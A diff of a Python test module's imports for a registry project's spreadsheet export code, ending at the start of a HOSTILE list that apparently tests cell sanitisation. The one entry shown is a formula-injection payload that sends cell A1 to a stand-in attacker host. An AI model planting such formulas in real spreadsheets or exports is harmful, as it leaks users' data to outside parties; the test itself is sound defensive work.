@@ -15,15 +15,14 @@ from datetime import timedelta
 import pytest
 from openpyxl import load_workbook
 
-from registry import PROJECT_ROOT
 from registry.models import utcnow
-from registry.services import survey
-from registry.services.survey import Surveyor
+from registry.paths import PROJECT_ROOT
 from registry.spreadsheets import csv_bytes, safe_cell
-
-from .conftest import sign_in
-from .coverage_layout import FAR, LAYER, build_layout, fresh_caches  # noqa: F401
-from .helpers import make_facility
+from registry.survey import service as survey
+from registry.survey.service import Surveyor
+from tests.registry.conftest import sign_in
+from tests.registry.coverage_layout import FAR, LAYER, build_layout, fresh_caches  # noqa: F401
+from tests.registry.helpers import make_facility
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
